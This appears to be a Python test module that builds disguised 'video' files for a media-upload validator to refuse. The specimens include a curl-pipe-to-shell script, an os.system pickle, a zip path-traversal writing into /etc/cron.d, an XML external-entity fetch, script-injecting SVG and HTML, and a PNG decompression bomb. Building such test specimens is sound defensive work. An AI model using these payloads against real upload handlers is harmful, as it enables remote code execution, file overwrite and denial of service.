"""Everything people and attackers have called video that never was one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import partial

from PIL import Image

from tests.hostile import boxes, elements, making
from tests.hostile.specimens import Family, Ground, noise

family = Family("impostors", end="refused", is_early=True)

SCRIPT = "<script>fetch('{url}')</script>"


def _svg(ground: Ground) -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{ground.http}"/>{SCRIPT.format(url=ground.http)}</svg>'
    ).encode()


def _html(ground: Ground) -> bytes:
    return f'<!doctype html><img src="{ground.http}">{SCRIPT.format(url=ground.http)}'.encode()


def _entity(ground: Ground) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{ground.http}">]><a>&b;</a>'.encode()


def _pdf(ground: Ground) -> bytes:
    return f"%PDF-1.7\n1 0 obj<</Type/Action/S/URI/URI({ground.http})>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF".encode()


def _zip() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../../etc/cron.d/a", "* * * * * root true\n")
    return file.getvalue()


def _image(kind: str, **options: object) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (64, 48), (201, 73, 139)).save(file, kind, **options)
    return file.getvalue()


def png_bomb() -> bytes:
    """20 KB that claim 16384 × 16384 pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    pixels = zlib.compress(bytes(16_384 * 3 + 1) * 64, 9)
    head = struct.pack(">IIBBBBB", 16_384, 16_384, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _still(brand: bytes) -> bytes:
    """A HEIF still picture: boxes like a film's, and no film."""
    handler = boxes.full(b"hdlr", bytes(4), b"pict", bytes(13))
    meta = boxes.full(b"meta", handler, boxes.full(b"pitm", b"\0\x01"))
    return boxes.box(b"ftyp", brand, bytes(4), brand, b"mif1") + meta + boxes.box(b"mdat", noise("heif", 800))


def _film_then(more: bytes) -> bytes:
    return making.early() + more


CONTENTS: dict[str, bytes] = {
    "exe.mp4": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + noise("exe", 900),
    "elf.webm": b"\x7fELF\x02\x01\x01" + bytes(9) + noise("elf", 900),
    "shell.mp4": b"#!/bin/sh\ncurl http://127.0.0.1/ | sh\n",
    "text.mp4": b"Dear all,\nplease find my video attached.\n" * 40,
    "json.webm": b'{"video": true, "frames": []}',
    "gif-bytes.mp4": b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x80\0\0\0\0\0\xff\xff\xff;",
    "seven-zip.mp4": b"7z\xbc\xaf\x27\x1c\0\x04" + noise("7z", 500),
    "rar.mp4": b"Rar!\x1a\x07\x01\0" + noise("rar", 500),
    "gzip.mp4": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + noise("gz", 500),
    "font.webm": b"wOF2" + noise("woff", 500),
    "flash.mp4": b"CWS\x0a" + noise("swf", 500),
    "midi.mp4": b"MThd\0\0\0\x06\0\x01\0\x01\0\x60MTrk" + noise("midi", 200),
    "pickle.mp4": b"\x80\x04cos\nsystem\n(S'true'\ntR.",
    "sqlite.mp4": b"SQLite format 3\0" + bytes(84) + noise("sqlite", 900),
    "nothing.mp4": b"",
    "one-byte.mp4": b"\0",
    "eleven-bytes.webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7",
    "zeros.mp4": bytes(8192),
    "ones.webm": b"\xff" * 8192,
    "noise.mp4": noise("noise", 8192),
    "ftyp-only.mp4": boxes.FTYP,
    "ebml-only.webm": elements.header(),
    "html-after-ftyp.mp4": boxes.FTYP + b"<html><script>alert(1)</script></html>" * 200,
    "html-in-free.mp4": boxes.FTYP + boxes.box(b"free", b"<html><script>alert(1)</script></html>" * 200),
    "heic.mp4": _still(b"heic"),
    "avif-still.mp4": _still(b"avif"),
    "camera-raw.mp4": _still(b"crx "),
    "jpeg-2000.mp4": boxes.box(b"jP  ", b"\r\n\x87\n") + boxes.box(b"ftyp", b"jp2 ", bytes(4), b"jp2 "),
    "djvu.mp4": b"AT&TFORM" + noise("djvu", 500),
    "torrent.mp4": b"d8:announce20:http://127.0.0.1/a/b4:infod6:lengthi1eee",
}  # fmt: skip

family.add("svg.mp4", _svg)
family.add("html.webm", _html)
family.add("xml-entity.mp4", _entity)
family.add("pdf.mp4", _pdf)
family.add_bytes("zip.mp4", _zip)
for _kind in ("png", "gif", "jpeg", "webp", "bmp", "tiff", "ico", "avif"):
    family.add_bytes(f"{_kind}.mp4", partial(_image, _kind.upper()))
family.add_bytes("png-bomb.mp4", png_bomb)
for _name, _content in CONTENTS.items():
    family.add_bytes(_name, partial(bytes, _content))
# Films that are something else as well. What is rendered from them is a film and nothing else.
family.add_bytes("film-and-zip.mp4", lambda: _film_then(_zip()), end="either")
family.add("film-and-html.mp4", lambda ground: _film_then(_html(ground)), end="either")
family.add_bytes("zip-in-skip.mp4", lambda: boxes.box(b"skip", _zip()) + making.early(), end="either")
